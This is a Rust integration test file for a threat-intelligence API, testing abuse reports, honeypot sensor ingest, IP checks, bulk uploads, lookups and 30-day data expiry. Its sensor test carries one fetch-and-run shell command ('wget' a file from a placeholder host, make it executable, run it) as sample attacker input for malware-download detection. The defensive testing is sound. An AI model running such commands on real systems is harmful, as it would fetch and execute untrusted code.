//! The threat-data core against the real server: reports, sensor ingest,
//! check, bulk check, block lists, lookups, whitelist, the 30-day lifecycle
//! on a stepped clock, and proof that lookups are never stored.

use std::time::Duration;

use reqwest::StatusCode;
use serde_json::{Value, json};
use sikker::domain::UnixMillis;

use crate::common::{T0, TestServer};

const DAY: Duration = Duration::from_secs(86_400);

struct Api {
    s: TestServer,
    key: String,
}

impl Api {
    async fn start() -> Self {
        let s = TestServer::start().await;
        let key = new_key(&s, "tests").await;
        Self { s, key }
    }

    async fn get(&self, path: &str) -> reqwest::Response {
        self.s
            .client
            .get(self.s.url(path))
            .bearer_auth(&self.key)
            .send()
            .await
            .unwrap()
    }

    async fn json(&self, path: &str) -> Value {
        let r = self.get(path).await;
        assert_eq!(r.status(), StatusCode::OK, "{path}");
        r.json().await.unwrap()
    }

    async fn post_json(&self, path: &str, body: &Value) -> reqwest::Response {
        self.s
            .client
            .post(self.s.url(path))
            .bearer_auth(&self.key)
            .json(body)
            .send()
            .await
            .unwrap()
    }

    async fn report(&self, ip: &str, category: Value) -> reqwest::Response {
        self.post_json(
            "/v1/key/report",
            &json!({"ip": ip, "category": category, "protocol": "ssh"}),
        )
        .await
    }

    async fn sensor(&self, name: &str) -> String {
        self.s
            .handle()
            .services
            .create_sensor(name)
            .await
            .unwrap()
            .0
    }

    async fn events(&self, token: &str, body: String) -> reqwest::Response {
        self.s.send_events(token, body).await
    }

    fn now(&self) -> UnixMillis {
        self.s.clock.now()
    }
}

async fn new_key(s: &TestServer, name: &str) -> String {
    s.handle()
        .services
        .create_api_key(name, "free", None)
        .await
        .unwrap()
        .0
}

fn event(ip: &str, session: &str, kind: &str, ts: UnixMillis, extra: Value) -> String {
    let mut e = json!({"ts": ts.0, "src_ip": ip, "protocol": "ssh", "dst_port": 22, "session_id": session, "kind": kind});
    if let (Value::Object(m), Value::Object(x)) = (&mut e, extra) {
        m.extend(x);
    }
    e.to_string()
}

fn brute_force(ip: &str, ts: UnixMillis, attempts: usize) -> String {
    (0..attempts)
        .map(|i| {
            let at = UnixMillis(ts.0 + i64::try_from(i).unwrap());
            event(
                ip,
                &format!("s{}", i / 10),
                "auth",
                at,
                json!({"username": format!("User{}", i % 3), "credential_hash": "h"}),
            )
        })
        .collect::<Vec<_>>()
        .join("\n")
}

#[tokio::test]
async fn report_then_check_with_deduplication() {
    let a = Api::start().await;
    let r = a.report("1.2.3.4", json!("brute_force")).await;
    assert_eq!(r.status(), StatusCode::OK);
    assert_eq!(r.json::<Value>().await.unwrap()["success"], true);
    // The CLI sends numeric categories as strings; plain numbers work too.
    assert_eq!(
        a.report("1.2.3.4", json!("3")).await.status(),
        StatusCode::OK
    );
    let v = a.json("/v1/key/check/1.2.3.4").await;
    assert_eq!(v["found"], true);
    assert_eq!(
        v["totalReports"], 1,
        "a second report within 15 minutes counts once"
    );
    assert_eq!(v["firstSeen"], T0.rfc3339());
    assert!(v["confidenceLevel"].as_u64().unwrap() > 0);
    // What the embedded data says of 1.2.3.4: a country but no AS.
    assert_eq!(v["geolocation"]["countryCode"], "PL");
    assert!(v["geolocation"]["asn"].is_null(), "no AS is invented");
    assert_eq!(v["protocols"][0]["protocol"], "ssh");
    assert!(v["scoreExplanation"]["factors"].is_array());
    assert!(
        v.get("reporters").is_none() && !v.to_string().contains("tests"),
        "no contributor identity is served"
    );

    a.s.clock.advance(Duration::from_secs(15 * 60));
    assert_eq!(a.report("1.2.3.4", json!(1)).await.status(), StatusCode::OK);
    let v = a.json("/v1/key/check/1.2.3.4").await;
    assert_eq!(v["totalReports"], 2);
    assert_eq!(v["categories"].as_array().unwrap().len(), 1);

    // Another account counts at once, and raises the score.
    let before = v["confidenceLevel"].as_u64().unwrap();
    let other = Api {
        key: new_key(&a.s, "other").await,
        s: a.s,
    };
    assert_eq!(
        other.report("1.2.3.4", json!("ddos")).await.status(),
        StatusCode::OK
    );
    let v = other.json("/v1/key/check/1.2.3.4").await;
    assert_eq!(v["distinctReporters"], 2);
    assert!(v["confidenceLevel"].as_u64().unwrap() > before);

    let v = other
        .json("/v1/key/check/2a00:1450:4001::1?verbose=false")
        .await;
    assert_eq!(v["found"], false);
    assert_eq!(v["confidenceLevel"], 0);
    assert!(v["firstSeen"].is_null());
    assert!(v.get("behaviors").is_none());
    let v = other
        .json("/v1/key/check/1.2.3.4?exclude=categories,protocols&protocols=ssh")
        .await;
    assert!(v.get("categories").is_none() && v.get("protocols").is_none() && v["found"] == true);
    let v = other.json("/v1/key/check/1.2.3.4?protocols=http").await;
    assert_eq!(v["found"], false, "no activity on http");
}

#[tokio::test]
async fn authentication_failures_use_the_contract_codes() {
    let a = Api::start().await;
    let r =
        a.s.client
            .get(a.s.url("/v1/key/check/1.2.3.4"))
            .send()
            .await
            .unwrap();
    assert_eq!(r.status(), StatusCode::UNAUTHORIZED);
    assert_eq!(r.json::<Value>().await.unwrap()["error"], "missing API key");
    let r =
        a.s.client
            .get(a.s.url("/v1/key/check/1.2.3.4"))
            .bearer_auth("sk_free_nope")
            .send()
            .await
            .unwrap();
    assert_eq!(r.status(), StatusCode::UNAUTHORIZED);
    // `?key=` works on GET (the CSF recipe), and the header wins over it.
    let r =
        a.s.client
            .get(a.s.url(&format!("/v1/key/blacklist?key={}&plaintext=true", a.key)))
            .send()
            .await
            .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    let r =
        a.s.client
            .get(a.s.url(&format!("/v1/key/check/1.2.3.4?key={}", a.key)))
            .bearer_auth("sk_free_wrong")
            .send()
            .await
            .unwrap();
    assert_eq!(r.status(), StatusCode::UNAUTHORIZED);
    let id = a.s.handle().services.list_api_keys().unwrap()[0].id;
    a.s.handle().services.revoke_api_key(id).await.unwrap();
    let r = a.get("/v1/key/check/1.2.3.4").await;
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    assert_eq!(
        r.json::<Value>().await.unwrap()["error"],
        "API key disabled or expired"
    );
}

#[tokio::test]
async fn bad_reports_get_clear_errors_and_change_nothing() {
    let a = Api::start().await;
    for ip in [
        "1.2.3.4.5",
        "::ffff:999.1.1.1",
        "fe80::1%eth0",
        "01.2.3.4",
        "",
        "abc",
    ] {
        let r = a.report(ip, json!("1")).await;
        assert_eq!(r.status(), StatusCode::BAD_REQUEST, "{ip}");
        let v: Value = r.json().await.unwrap();
        assert_eq!(v["success"], false);
        assert!(v["error"].as_str().unwrap().starts_with("ip:"), "{v}");
    }
    for ip in [
        "10.1.2.3",
        "127.0.0.1",
        "192.168.1.1",
        "224.0.0.1",
        "198.51.100.7",
        "2001:db8::1",
        "fd00::1",
    ] {
        let v: Value = a.report(ip, json!("1")).await.json().await.unwrap();
        assert!(
            v["error"].as_str().unwrap().contains("Private, reserved"),
            "{ip}: {v}"
        );
    }
    for cat in [json!(0), json!(17), json!("abc"), json!(""), json!(true)] {
        let r = a.report("1.2.3.4", cat.clone()).await;
        assert_eq!(r.status(), StatusCode::BAD_REQUEST, "{cat}");
    }
    let long = a
        .post_json(
            "/v1/key/report",
            &json!({"ip": "1.2.3.4", "category": 1, "comment": "x".repeat(1001)}),
        )
        .await;
    assert!(
        long.json::<Value>().await.unwrap()["error"]
            .as_str()
            .unwrap()
            .contains("Comment longer than 1000")
    );
    let long = a
        .post_json(
            "/v1/key/report",
            &json!({"ip": "1.2.3.4", "category": 1, "protocol": "p".repeat(33)}),
        )
        .await;
    assert_eq!(long.status(), StatusCode::BAD_REQUEST);
    let r =
        a.s.client
            .post(a.s.url("/v1/key/report"))
            .bearer_auth(&a.key)
            .header("content-type", "text/plain")
            .body("{}")
            .send()
            .await
            .unwrap();
    assert_eq!(r.status(), StatusCode::UNSUPPORTED_MEDIA_TYPE);
    let r =
        a.s.client
            .post(a.s.url("/v1/key/report"))
            .bearer_auth(&a.key)
            .header("content-type", "application/json")
            .body(vec![0xff, 0xfe])
            .send()
            .await
            .unwrap();
    assert_eq!(r.status(), StatusCode::BAD_REQUEST);
    let r =
        a.s.client
            .post(a.s.url("/v1/key/report"))
            .bearer_auth(&a.key)
            .header("content-type", "application/json")
            .body(vec![b' '; 70_000])
            .send()
            .await
            .unwrap();
    assert_eq!(r.status(), StatusCode::PAYLOAD_TOO_LARGE);
    let v = a.json("/v1/key/check/1.2.3.4").await;
    assert_eq!(v["found"], false, "nothing was written: {v}");
    assert_eq!(a.s.handle().services.indicator_count(), 0);
}

fn csv_form(data: Vec<u8>) -> reqwest::multipart::Form {
    reqwest::multipart::Form::new().part(
        "file",
        reqwest::multipart::Part::bytes(data).file_name("reports/today.csv"),
    )
}

#[tokio::test]
async fn bulk_reports_accept_good_rows_and_list_bad_ones() {
    let a = Api::start().await;
    let body = json!({"reports": [
        {"ip": "1.2.3.4", "category": "brute_force", "protocol": "ssh", "comment": "failed logins"},
        {"ip": "999.1.1.1", "category": "port_scan"},
        {"ip": "5.6.7.8", "category": 3},
        {"ip": "9.9.9.9"},
        "not an object",
    ]});
    let v: Value = a
        .post_json("/v1/key/bulk-report", &body)
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(
        (
            v["total"].as_u64(),
            v["accepted"].as_u64(),
            v["rejected"].as_u64()
        ),
        (Some(5), Some(2), Some(3)),
        "{v}"
    );
    assert_eq!(
        v["errors"][0],
        json!({"row": 2, "ip": "999.1.1.1", "error": "Invalid IP address"})
    );
    assert_eq!(v["errors"][1]["row"], 4);
    assert_eq!(v["errors"][2]["row"], 5);
    let v: Value = a
        .post_json(
            "/v1/key/bulk-report",
            &json!([{"ip": "8.8.4.4", "category": "spam"}]),
        )
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(v["accepted"], 1, "a bare array works too");

    let csv = "IP;Category;Protocol;Comment\n11.1.1.1;ddos;http;\"quoted; text\"\n12.1.1.1;99\n\n13.1.1.1;phishing\n";
    let r =
        a.s.client
            .post(a.s.url("/v1/key/bulk-report"))
            .bearer_auth(&a.key)
            .multipart(csv_form(csv.into()))
            .send()
            .await
            .unwrap();
    let v: Value = r.json().await.unwrap();
    assert_eq!(v["accepted"], 2, "{v}");
    assert_eq!(
        v["errors"],
        json!([{"row": 3, "ip": "12.1.1.1", "error": "Unknown category '99' (use a name or 1-16)"}])
    );
    assert_eq!(a.json("/v1/key/check/11.1.1.1").await["found"], true);
    let count = a.s.handle().services.indicator_count();

    // Refused as a whole, nothing written:
    let rows: String = (0..10_001)
        .map(|i| format!("{}.{}.{}.1,1\n", 20 + i / 65_536, (i / 256) % 256, i % 256))
        .collect();
    let r =
        a.s.client
            .post(a.s.url("/v1/key/bulk-report"))
            .bearer_auth(&a.key)
            .multipart(csv_form(rows.into()))
            .send()
            .await
            .unwrap();
    assert_eq!(r.status(), StatusCode::BAD_REQUEST);
    assert!(
        r.json::<Value>().await.unwrap()["error"]
            .as_str()
            .unwrap()
            .contains("10000")
    );
    let mut big = b"1.2.3.4,1,ssh,".to_vec();
    big.resize(2 * 1024 * 1024 + 1, b'x');
    let r =
        a.s.client
            .post(a.s.url("/v1/key/bulk-report"))
            .bearer_auth(&a.key)
            .multipart(csv_form(big))
            .send()
            .await
            .unwrap();
    assert_eq!(r.status(), StatusCode::PAYLOAD_TOO_LARGE);
    let r =
        a.s.client
            .post(a.s.url("/v1/key/bulk-report"))
            .bearer_auth(&a.key)
            .multipart(csv_form(b"30.1.1.1,1\n31.1.1.1,1,ssh,\"open\n".to_vec()))
            .send()
            .await
            .unwrap();
    assert_eq!(r.status(), StatusCode::BAD_REQUEST);
    assert!(
        r.json::<Value>().await.unwrap()["error"]
            .as_str()
            .unwrap()
            .contains("unbalanced quote on line 2")
    );
    let r =
        a.s.client
            .post(a.s.url("/v1/key/bulk-report"))
            .bearer_auth(&a.key)
            .multipart(csv_form(vec![b'3', b'0', 0xff, b',', b'1']))
            .send()
            .await
            .unwrap();
    assert_eq!(r.status(), StatusCode::BAD_REQUEST);
    let many: Vec<Value> = (0..10_001)
        .map(|_| json!({"ip": "1.2.3.4", "category": 1}))
        .collect();
    assert_eq!(
        a.post_json("/v1/key/bulk-report", &json!({"reports": many}))
            .await
            .status(),
        StatusCode::BAD_REQUEST
    );
    let r =
        a.s.client
            .post(a.s.url("/v1/key/bulk-report"))
            .bearer_auth(&a.key)
            .header("content-type", "text/csv")
            .body("1.2.3.4,1")
            .send()
            .await
            .unwrap();
    assert_eq!(r.status(), StatusCode::UNSUPPORTED_MEDIA_TYPE);
    assert_eq!(
        a.s.handle().services.indicator_count(),
        count,
        "refused requests wrote nothing"
    );
    assert_eq!(a.json("/v1/key/check/30.1.1.1").await["found"], false);
}

/// Events `range` of one session, `ms` apart from `t`.
fn long_session(t: UnixMillis, range: std::ops::Range<i64>) -> String {
    range
        .map(|i| {
            event(
                "45.2.2.2",
                "long",
                "auth",
                UnixMillis(t.0 + i),
                json!({"username": format!("u{}", i % 50)}),
            )
        })
        .collect::<Vec<_>>()
        .join("\n")
}

#[tokio::test]
async fn a_long_session_counts_each_event_once_across_batches() {
    let a = Api::start().await;
    let token = a.sensor("hp-1").await;
    let t = a.now();
    let post = |range: std::ops::Range<i64>| {
        let (a, token) = (&a, &token);
        async move {
            let r = a.events(token, long_session(t, range)).await;
            assert_eq!(r.status(), StatusCode::OK);
            let v: Value = r.json().await.unwrap();
            (
                v["accepted"].as_u64().unwrap(),
                v["duplicates"].as_u64().unwrap(),
            )
        }
    };
    // 600 events and 51 names: more than one row of fingerprints, so the
    // session's state is kept between batches.
    for start in [0, 200, 400] {
        assert_eq!(post(start..start + 200).await, (200, 0));
    }
    assert_eq!(post(0..200).await, (0, 200), "a retried batch");
    assert_eq!(post(500..700).await, (100, 100));
    assert_eq!(post(650..750).await, (50, 50));
    let v = a.json("/v1/key/check/45.2.2.2").await;
    assert_eq!(v["totalEvents"], 750);
    assert_eq!(v["totalSessions"], 1);
}

#[tokio::test]
async fn sensor_events_build_behaviours_and_lookups() {
    let a = Api::start().await;
    let token = a.sensor("hp-1").await;
    let t = a.now();
    let mut batch = brute_force("45.1.1.1", t, 20);
    batch.push('\n');
    batch.push_str(&event(
        "45.1.1.1",
        "s9",
        "command",
        t,
        json!({"command": "cd /tmp; wget http://x/m; chmod +x m; ./m"}),
    ));
    batch.push('\n');
    batch.push_str(&event(
        "46.1.1.1",
        "m1",
        "mail",
        t,
        json!({"protocol": "smtp", "email": "Victim@Example.COM"}),
    ));
    let r = a.events(&token, batch.clone()).await;
    assert_eq!(r.status(), StatusCode::OK);
    assert_eq!(
        r.json::<Value>().await.unwrap(),
        json!({"received": 22, "accepted": 22, "duplicates": 0})
    );
    // A retried batch counts once.
    let v: Value = a.events(&token, batch).await.json().await.unwrap();
    assert_eq!(v["duplicates"], 22);

    let v = a.json("/v1/key/check/45.1.1.1").await;
    assert_eq!(v["totalSessions"], 3);
    assert_eq!(v["totalEvents"], 21);
    let names: Vec<&str> = v["behaviors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|b| b["name"].as_str().unwrap())
        .collect();
    assert_eq!(names[0], "malware_download", "most severe first: {names:?}");
    assert!(
        names.contains(&"credential_brute_force") && names.contains(&"credential_stuffing"),
        "{names:?}"
    );
    assert!(v["confidenceLevel"].as_u64().unwrap() >= 60);

    let v = a.json("/v1/key/username/user1").await;
    assert_eq!(v["username"], "user1");
    assert_eq!(v["totalSessions"], 2, "two sessions tried user1");
    let counts: Value = serde_json::from_str(v["protocolCounts"].as_str().unwrap()).unwrap();
    assert_eq!(counts, json!({"ssh": 2}));
    assert_eq!(v["firstSeenAt"], t.0 + 1, "user1 was first tried 1 ms in");
    let v = a.json("/v1/key/email/victim@example.com").await;
    assert_eq!(v["totalMessages"], 1);
    let r = a.get("/v1/key/username/nobody").await;
    assert_eq!(r.status(), StatusCode::NOT_FOUND);
    assert_eq!(
        r.json::<Value>().await.unwrap()["error"],
        "Username not found"
    );
    assert_eq!(
        a.get("/v1/key/email/no%40where.example").await.status(),
        StatusCode::NOT_FOUND
    );

    // A JSON array works as well as NDJSON.
    let arr = format!("[{}]", event("47.1.1.1", "z", "connect", t, json!({})));
    assert_eq!(a.events(&token, arr).await.status(), StatusCode::OK);
}

#[tokio::test]
async fn bad_sensor_batches_are_refused_whole() {
    let a = Api::start().await;
    let token = a.sensor("hp-2").await;
    let t = a.now();
    let good = event("50.1.1.1", "s", "connect", t, json!({}));
    let cases = [
        event("10.0.0.1", "s", "connect", t, json!({})),
        event("50.1.1.2", "s", "teleport", t, json!({})),
        event("50.1.1.2", "s", "connect", t, json!({"protocol": "gopher"})),
        event(
            "50.1.1.2",
            "s",
            "connect",
            UnixMillis(t.0 + 3_600_000),
            json!({}),
        ),
        event(
            "50.1.1.2",
            "s",
            "connect",
            UnixMillis(t.0 - 31 * 86_400_000),
            json!({}),
        ),
        event("50.1.1.2", "s", "command", t, json!({})),
        event(
            "50.1.1.2",
            "s",
            "connect",
            t,
            json!({"username": "x".repeat(129)}),
        ),
        "{not json".to_owned(),
    ];
    for bad in cases {
        let r = a.events(&token, format!("{good}\n{bad}\n")).await;
        assert_eq!(r.status(), StatusCode::BAD_REQUEST, "{bad}");
        let v: Value = r.json().await.unwrap();
        assert_eq!(v["errors"][0]["line"], 2, "{v}");
    }
    let r =
        a.s.send_events(&token, [good.as_bytes(), b"\n\xff\xfe\n"].concat())
            .await;
    assert_eq!(r.status(), StatusCode::BAD_REQUEST);
    let v: Value = r.json().await.unwrap();
    assert!(v.to_string().contains("not valid UTF-8"), "{v}");
    assert_eq!(
        a.json("/v1/key/check/50.1.1.1").await["found"],
        false,
        "nothing from refused batches"
    );
    let r = a.events("sks_wrong", good.clone()).await;
    assert_eq!(r.status(), StatusCode::UNAUTHORIZED);
    let id = a.s.handle().services.list_sensors().await.unwrap()[0].id;
    a.s.handle().services.revoke_sensor(id).await.unwrap();
    assert_eq!(a.events(&token, good).await.status(), StatusCode::FORBIDDEN);
    let many: String = (0..10_001)
        .map(|i| event("50.1.1.1", &i.to_string(), "connect", t, json!({})) + "\n")
        .collect();
    let token2 = a.sensor("hp-3").await;
    assert_eq!(
        a.events(&token2, many).await.status(),
        StatusCode::BAD_REQUEST
    );
}

#[tokio::test]
async fn thirty_day_lifecycle_on_a_stepped_clock() {
    let a = Api::start().await;
    let token = a.sensor("hp").await;
    let services = a.s.handle().services.clone();
    // Day 0: A is reported, B is seen by a sensor.
    assert_eq!(
        a.report("60.1.1.1", json!("brute_force")).await.status(),
        StatusCode::OK
    );
    assert_eq!(
        a.events(&token, brute_force("61.1.1.1", a.now(), 10))
            .await
            .status(),
        StatusCode::OK
    );
    // Day 20: the sensor sees A again, which renews it.
    a.s.clock.advance(20 * DAY);
    assert_eq!(
        a.events(
            &token,
            event("60.1.1.1", "late", "connect", a.now(), json!({}))
        )
        .await
        .status(),
        StatusCode::OK
    );
    // Day 30 + 1 s: B expired (its last event was at 9 ms). It is gone from
    // answers before any sweep runs.
    a.s.clock.set(UnixMillis(T0.0 + 30 * 86_400_000 + 1000));
    assert_eq!(a.json("/v1/key/check/61.1.1.1").await["found"], false);
    assert_eq!(
        a.get("/v1/key/username/user0").await.status(),
        StatusCode::NOT_FOUND,
        "usernames expire too"
    );
    let bl =
        a.s.client
            .get(a.s.url("/v1/key/blacklist?plaintext=true&scoreMinimum=1"))
            .bearer_auth(&a.key)
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
    assert_eq!(bl, "60.1.1.1\n", "expired B is not listed");
    assert_eq!(
        services
            .store
            .read(sikker::store::reports::all)
            .await
            .unwrap()
            .len(),
        1,
        "raw report still inside its 30 days"
    );
    // Day 31: the sweep drops B's bucket and the day-0 raw report; A lives on.
    a.s.clock.set(UnixMillis(T0.0 + 31 * 86_400_000));
    let r = services.sweep(a.now(), 1).await.unwrap();
    assert_eq!(r.indicators, 1, "{r:?}");
    assert!(r.reports >= 1 && r.usernames >= 1, "{r:?}");
    assert!(
        services
            .store
            .read(sikker::store::reports::all)
            .await
            .unwrap()
            .is_empty()
    );
    assert_eq!(
        services
            .store
            .read(sikker::store::indicators::count)
            .await
            .unwrap(),
        1
    );
    let v = a.json("/v1/key/check/60.1.1.1").await;
    assert_eq!(v["found"], true);
    assert_eq!(
        v["totalReports"], 1,
        "the aggregate keeps the report's effect after the raw report is gone"
    );
    // Day 50 + 1 ms: A's last evidence was day 20, so it has expired too.
    a.s.clock.set(UnixMillis(T0.0 + 50 * 86_400_000 + 1));
    assert_eq!(a.json("/v1/key/check/60.1.1.1").await["found"], false);
    a.s.clock.advance(DAY);
    assert_eq!(services.sweep(a.now(), 100).await.unwrap().indicators, 1);
    assert_eq!(services.indicator_count(), 0);
    // The expired IP reported again starts afresh.
    assert_eq!(
        a.report("60.1.1.1", json!("ddos")).await.status(),
        StatusCode::OK
    );
    assert_eq!(a.json("/v1/key/check/60.1.1.1").await["totalReports"], 1);
}

#[tokio::test]
async fn index_is_rebuilt_from_the_store_on_restart() {
    let a = Api::start().await;
    for ip in ["70.1.1.1", "70.1.1.2", "2a01:4f8::1"] {
        assert_eq!(a.report(ip, json!("ddos")).await.status(), StatusCode::OK);
    }
    let key = a.key.clone();
    let (dir, data) = a.s.into_dirs().await;
    let s = TestServer::start_in(dir, data, &[]).await;
    assert_eq!(s.handle().services.indicator_count(), 3);
    let r = s
        .client
        .get(s.url("/v1/key/blacklist?plaintext=true&scoreMinimum=1"))
        .bearer_auth(&key)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK, "keys survive a restart");
    assert_eq!(r.text().await.unwrap().lines().count(), 3);
}
